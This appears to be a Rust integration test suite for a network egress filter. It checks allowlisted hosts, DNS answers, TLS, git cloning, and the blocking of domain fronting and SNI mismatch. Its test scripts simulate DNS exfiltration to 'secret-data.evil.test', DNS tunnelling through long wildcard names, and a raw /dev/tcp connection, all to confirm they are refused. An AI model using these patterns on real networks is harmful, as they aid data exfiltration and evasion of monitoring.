//! Real programs in a namespace like a session's: names, listeners, interception.

#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

mod common;

use std::{io::Write, sync::Arc};

use common::{
    netns::{Session, isolated, text},
    origin::{OK, lenient, proper},
    policy::Rule,
    world::World,
};
use remit_core::ReasonCode;

struct Setup {
    world: World,
    session: Arc<Session>,
    egress: remit_egress::Egress,
    ca: tempfile::NamedTempFile,
}

fn setup(rules: Vec<Rule>, hosts: &str) -> Setup {
    let world = World::new();
    world.names(hosts);
    world.rules(rules);
    let session = Arc::new(Session::new());
    let egress = world.transparent(Arc::clone(&session) as Arc<dyn remit_egress::SessionNet>);
    let mut ca = tempfile::NamedTempFile::new().unwrap();
    ca.write_all(world.ca().as_bytes()).unwrap();
    Setup { world, session, egress, ca }
}

impl Setup {
    fn curl(&self, arguments: &[&str]) -> String {
        let ca = self.ca.path().to_str().unwrap();
        let all = [&["-sS", "--max-time", "15", "--cacert", ca], arguments].concat();
        let output = self.session.run("curl", &all);
        format!("{}{}", text(&output), String::from_utf8_lossy(&output.stderr))
    }
}

#[test]
fn curl_reaches_a_listed_name_over_both_versions_and_nothing_else() {
    if !isolated() {
        return;
    }
    let setup = setup(
        vec![Rule::new("api.test", &[443, 80]).paths(&["/", "/headers", "/big", "/nothing"])],
        "127.0.0.2 api.test other.test\n",
    );
    let tls = setup.world.outside.server(&["api.test"], &["h2", "http/1.1"]);
    proper("127.0.0.2:443", Some(tls));
    proper("127.0.0.2:80", None);
    for version in ["--http1.1", "--http2"] {
        let out = setup.curl(&[version, "https://api.test/headers"]);
        assert!(out.contains("/headers HTTP/"), "{out}\n{:#?}", setup.world.trail.lines());
        assert!(out.contains("user-agent: curl"), "{out}");
        let out = setup.curl(&[version, "https://api.test/secret", "-w", "%{http_code}"]);
        assert!(out.ends_with("403") && out.contains("path_not_listed"), "{out}");
        assert!(out.contains("\"line\":7") && out.contains("event_id"), "{out}");
        let out = setup.curl(&[
            version,
            "https://api.test/big",
            "-o",
            "/dev/null",
            "-w",
            "%{size_download}",
        ]);
        assert_eq!(out, "67108864");
        let out = setup.curl(&[version, "-I", "https://api.test/"]);
        assert!(out.contains("200") && !out.contains("alt-svc"), "{out}");
        let out = setup.curl(&[version, "https://api.test/nothing", "-w", "%{http_code}"]);
        assert_eq!(out, "204");
    }
    let out = setup.curl(&["http://api.test/headers"]);
    assert!(out.contains("host: api.test"), "{out}");
    let out = setup.curl(&["https://other.test/"]);
    assert!(out.contains("Could not resolve host"), "{out}");
    assert!(setup.world.trail.has(ReasonCode::HostNotListed));
    let out = setup.curl(&["https://api.test:8443/"]);
    assert!(out.contains("Connection refused") || out.contains("Failed to connect"), "{out}");
    let out = setup.curl(&["https://93.184.216.34/"]);
    assert!(out.contains("unreachable") || out.contains("Couldn't connect"), "{out}");
}

#[test]
fn a_lenient_origin_sees_only_what_was_written_anew() {
    if !isolated() {
        return;
    }
    let setup = setup(vec![Rule::new("api.test", &[80])], "127.0.0.2 api.test\n");
    let (_, log) = lenient("127.0.0.2:80", None, OK);
    let out = setup.curl(&["http://api.test/a?q=1", "-H", "Connection: x-y", "-H", "X-Y: 1"]);
    assert_eq!(out, "ok");
    let seen = log.text();
    assert!(seen.starts_with("GET /a?q=1 HTTP/1.1\r\n"), "{seen}");
    assert!(!seen.to_lowercase().contains("x-y"), "{seen}");
}

const PYTHON: &str = r#"
import http.client, ssl, sys
context = ssl.create_default_context(cafile=sys.argv[1])
c = http.client.HTTPSConnection("api.test", 443, context=context, timeout=10)
for n in range(3):
    c.request("POST", "/count", body=b"x" * 100000)
    print(c.getresponse().read().decode())
c.request("GET", "/secret")
r = c.getresponse()
print(r.status, r.getheader("remit-reason"))
"#;

const QUERIES: &str = r#"
import socket, struct, sys
def query(name, kind, cls=1, op=0, tcp=False, edns=True, raw=None):
    q = struct.pack(">HHHHHH", 7, op << 11 | 0x100, 1, 0, 0, 1 if edns else 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", kind, cls)
    if edns: q += b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
    if raw: q = raw
    if tcp:
        s = socket.create_connection(("198.18.0.1", 53), 5)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        a = s.recv(n)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(q, ("198.18.0.1", 53))
        a = s.recv(4096)
    _, flags, qd, an, ns, ar = struct.unpack(">HHHHHH", a[:12])
    address = ".".join(map(str, a[-4 - 11 * (ar and edns):][:4])) if an else "-"
    return f"{flags & 15} {an} {address} {'remit' if b'Remit: ' in a else '-'}"
print("A", query("api.test", 1))
print("A-case", query("aPi.TeSt", 1))
print("A-tcp", query("api.test", 1, tcp=True))
print("A-noedns", query("api.test", 1, edns=False))
print("AAAA", query("api.test", 28))
print("HTTPS", query("api.test", 65))
print("TXT", query("api.test", 16))
print("ANY", query("api.test", 255))
print("AXFR", query("api.test", 252))
print("CHAOS", query("api.test", 16, cls=3))
print("NOTIFY", query("api.test", 1, op=4))
print("UPDATE", query("api.test", 1, op=5))
print("other", query("secret-data.evil.test", 1))
print("other-TXT", query("secret-data.evil.test", 16))
for n in range(20): query("secret-data.evil.test", 1)
print("b", query("b.api.test", 1))
print("sub", query("x.b.api.test", 1))
print("broken", query("", 1, raw=b"\0\7\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1", edns=False))
"#;

const TUNNEL: &str = r#"
import socket, time
def known(name):
    try: return bool(socket.gethostbyname(name))
    except OSError: return False
print("ordinary", sum(known(f"bucket-{n}.eu.wild.test") for n in range(40)))
long = "x" * 60
print("long", sum(known(f"{n}.{long}.{long}.{long}.wild.test") for n in range(300)))
# Refused lookups are tried again by the C library, up to the limit of their rate.
time.sleep(3)
print("known", known("bucket-7.eu.wild.test"), "other", known("api.test"))
"#;

#[test]
fn dns_tunnelling_by_long_names_under_a_wildcard_runs_out() {
    if !isolated() {
        return;
    }
    let rules = vec![Rule::new("*.wild.test", &[443]), Rule::new("api.test", &[443])];
    let setup = setup(rules, "127.0.0.2 api.test\n");
    let output = setup.session.run("python3", &["-c", TUNNEL]);
    let told = text(&output);
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(told.starts_with("ordinary 40\n"), "{told}{errors}");
    let long = told.lines().find_map(|line| line.strip_prefix("long ")).unwrap();
    assert!((40..150).contains(&long.parse::<u32>().unwrap()), "{told}");
    assert!(told.contains("known True"), "{told}");
    assert!(told.ends_with("other True\n"), "{told}");
    assert!(setup.world.trail.has(ReasonCode::LimitReached));
}

#[test]
fn python_speaks_through_and_sees_why_it_is_refused() {
    if !isolated() {
        return;
    }
    let setup = setup(
        vec![Rule::new("api.test", &[443]).paths(&["/count"]).methods(&["POST"])],
        "127.0.0.2 api.test\n",
    );
    let tls = setup.world.outside.server(&["api.test"], &["h2", "http/1.1"]);
    proper("127.0.0.2:443", Some(tls));
    let ca = setup.ca.path().to_str().unwrap();
    let output = setup.session.run("python3", &["-c", PYTHON, ca]);
    let errors = String::from_utf8_lossy(&output.stderr);
    assert_eq!(
        text(&output),
        "100000\n100000\n100000\n403 method_not_listed\n",
        "{errors} {:#?}",
        setup.world.trail.lines()
    );
}

#[test]
fn names_are_answered_only_as_addresses_and_only_if_listed() {
    if !isolated() {
        return;
    }
    let setup = setup(
        vec![Rule::new("api.test", &[443]), Rule::new("b.api.test", &[443])],
        "127.0.0.2 api.test\n",
    );
    let output = setup.session.run("python3", &["-c", QUERIES]);
    let errors = String::from_utf8_lossy(&output.stderr);
    let expected = "\
A 0 1 198.18.0.2 -
A-case 0 1 198.18.0.2 -
A-tcp 0 1 198.18.0.2 -
A-noedns 0 1 198.18.0.2 -
AAAA 0 0 - -
HTTPS 0 0 - -
TXT 0 0 - -
ANY 0 1 198.18.0.2 -
AXFR 5 0 - -
CHAOS 5 0 - -
NOTIFY 5 0 - -
UPDATE 5 0 - -
other 3 0 - remit
other-TXT 3 0 - remit
b 0 1 198.18.0.3 -
sub 3 0 - remit
broken 1 0 - -
";
    assert_eq!(text(&output), expected, "{errors}");
    // Twenty-two questions, one record at once; the count follows when the window closes or the
    // policy changes.
    let about = |record: &remit_core::Record| record.resource == "secret-data.evil.test";
    let records = setup.world.trail.denied().into_iter().filter(about).count();
    assert_eq!(records, 1);
    setup.world.rules(vec![]);
    let counted = setup.world.trail.wait("the count", |r| {
        about(r) && r.detail.as_deref().is_some_and(|detail| detail.contains("21 more times"))
    });
    assert_eq!(counted.outcome, remit_core::Outcome::Denied);
}

#[test]
fn a_name_that_is_no_longer_listed_loses_its_listeners() {
    if !isolated() {
        return;
    }
    let rule = Rule::new("api.test", &[80]);
    let setup = setup(vec![rule.clone()], "127.0.0.2 api.test\n");
    proper("127.0.0.2:80", None);
    let get =
        |more: &[&str]| setup.curl(&[&["-o", "/dev/null", "-w", "%{http_code}"], more].concat());
    assert_eq!(get(&["http://api.test/"]), "200");
    let by_address = ["--resolve", "api.test:80:198.18.0.2", "http://api.test/"];
    assert_eq!(get(&by_address), "200");
    setup.world.rules(vec![]);
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(get(&by_address).starts_with("000"));
    assert!(get(&["http://api.test/"]).contains("Could not resolve"));
    // Listed again, it has its address again.
    setup.world.rules(vec![rule]);
    std::thread::sleep(std::time::Duration::from_millis(100));
    assert_eq!(get(&["http://api.test/"]), "200");
    assert_eq!(get(&by_address), "200");
}

#[test]
fn junk_on_443_is_refused_and_another_name_on_an_address_as_well() {
    if !isolated() {
        return;
    }
    let setup = setup(
        vec![Rule::new("api.test", &[443]), Rule::new("front.test", &[443])],
        "127.0.0.2 api.test front.test\n",
    );
    let tls = setup.world.outside.server(&["api.test", "front.test"], &["http/1.1"]);
    let (_, log) = lenient("127.0.0.2:443", Some(tls), OK);
    assert_eq!(setup.curl(&["https://api.test/"]), "ok");
    // The address of one name, the server name of another that is listed, too.
    let out = setup.curl(&["--resolve", "front.test:443:198.18.0.2", "https://front.test/"]);
    assert!(out.contains("unrecognized name"), "{out}");
    let record = setup.world.trail.wait("it", |r| r.reason == ReasonCode::SniMismatch);
    assert_eq!(record.resource, "api.test:443");
    // The right server name and another Host: domain fronting.
    let out = setup.curl(&["https://api.test/", "-H", "Host: front.test", "-w", "%{http_code}"]);
    assert!(out.ends_with("421"), "{out}");
    let script = "exec 3<>/dev/tcp/198.18.0.2/443; printf 'SSH-2.0-x\\r\\n' >&3; cat <&3";
    let output = setup.session.run("bash", &["-c", script]);
    assert_eq!(text(&output), "");
    setup.world.trail.wait("the junk", |r| r.reason == ReasonCode::UnsupportedProtocol);
    assert_eq!(log.connections(), 1);
    // Without a server name.
    let output = setup.session.run(
        "sh",
        &["-c", "openssl s_client -noservername -connect 198.18.0.2:443 </dev/null 2>&1"],
    );
    assert!(text(&output).contains("alert"), "{}", text(&output));
}

#[test]
fn openssl_sees_a_sound_chain_with_tls_1_2_and_1_3() {
    if !isolated() {
        return;
    }
    let setup = setup(vec![Rule::new("api.test", &[443])], "127.0.0.2 api.test\n");
    let ca = setup.ca.path().to_str().unwrap();
    for version in ["-tls1_2", "-tls1_3"] {
        let script = format!(
            "openssl s_client {version} -x509_strict -verify_return_error -verify_hostname api.test \
             -CAfile {ca} -servername api.test -connect api.test:443 </dev/null 2>&1"
        );
        let out = text(&setup.session.run("sh", &["-c", &script]));
        assert!(out.contains("Verify return code: 0 (ok)"), "{out}");
        assert!(out.contains("Verified peername: api.test"), "{out}");
    }
}

#[test]
fn git_clones_over_https() {
    if !isolated() {
        return;
    }
    let setup = setup(
        vec![Rule::new("git.test", &[443]).methods(&["GET"]).paths(&["/repo.git/*"])],
        "127.0.0.2 git.test\n",
    );
    let root = tempfile::tempdir().unwrap();
    let script = "cd $0 && git init -q work && cd work && git -c user.name=a -c user.email=a@a \
                  commit -q --allow-empty -m first && cd .. && git clone -q --bare work repo.git \
                  && cd repo.git && git update-server-info";
    common::netns::run(
        std::process::Command::new("sh")
            .args(["-c", script, root.path().to_str().unwrap()])
            .env("HOME", root.path()),
    );
    let mut server = std::process::Command::new("python3")
        .args(["-m", "http.server", "--bind", "127.0.0.3", "8000"])
        .current_dir(root.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let tls = setup.world.outside.server(&["git.test"], &["http/1.1"]);
    forward_tls("127.0.0.2:443", tls, "127.0.0.3:8000");
    for _ in 0..100 {
        if std::net::TcpStream::connect("127.0.0.3:8000").is_ok() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let target = root.path().join("clone");
    let output = setup
        .session
        .command("git")
        .args(["clone", "-q", "https://git.test/repo.git", target.to_str().unwrap()])
        .env("GIT_SSL_CAINFO", setup.ca.path())
        .env("HOME", root.path())
        .output()
        .unwrap();
    let _ = server.kill();
    let _ = server.wait();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{errors} {:#?}", setup.world.trail.lines());
    assert!(target.join(".git/HEAD").exists());
}

/// A TLS front for a plain server.
fn forward_tls(at: &str, tls: Arc<rustls::ServerConfig>, to: &'static str) {
    let listener = std::net::TcpListener::bind(at).unwrap();
    listener.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async move {
            let listener = tokio::net::TcpListener::from_std(listener).unwrap();
            loop {
                let (stream, _) = listener.accept().await.unwrap();
                let acceptor = tokio_rustls::TlsAcceptor::from(Arc::clone(&tls));
                tokio::spawn(async move {
                    let mut stream = acceptor.accept(stream).await.unwrap();
                    let mut server = tokio::net::TcpStream::connect(to).await.unwrap();
                    let _ = tokio::io::copy_bidirectional(&mut stream, &mut server).await;
                });
            }
        });
    });
}

#[test]
fn a_listed_literal_address_is_reached_and_its_neighbour_is_not() {
    if !isolated() {
        return;
    }
    let setup = setup(vec![Rule::new("127.0.0.2", &[80]), Rule::new("10.7.0.9", &[80])], "");
    proper("127.0.0.2:80", None);
    // In the session 10.7.0.9 leads to its own listener, which dials that very address outside.
    common::netns::run(std::process::Command::new("ip").args([
        "addr",
        "add",
        "10.7.0.9/32",
        "dev",
        "lo",
    ]));
    proper("10.7.0.9:80", None);
    setup.session.run("ip", &["route", "add", "local", "10.7.0.9/32", "dev", "lo"]);
    let address = std::net::Ipv4Addr::new(10, 7, 0, 9);
    let host = remit_core::Host::Address(address.into());
    setup.egress.open_at(&host, address, &[80]).unwrap();
    let out = setup.curl(&["http://10.7.0.9/"]);
    assert!(out.contains("address_refused"), "{out}");
    let networks = Rule::new("10.7.0.9", &[80, 81]).networks(&["10.7.0.9/32"]);
    setup.world.rules(vec![networks]);
    // A second rule's port does not close the first one's.
    setup.egress.open_at(&host, address, &[81]).unwrap();
    let out = setup.curl(&["http://10.7.0.9/headers"]);
    assert!(out.contains("host: 10.7.0.9"), "{out}");
    let out = setup.curl(&["http://10.7.0.10/"]);
    assert!(out.contains("Couldn't connect") || out.contains("unreachable"), "{out}");
}
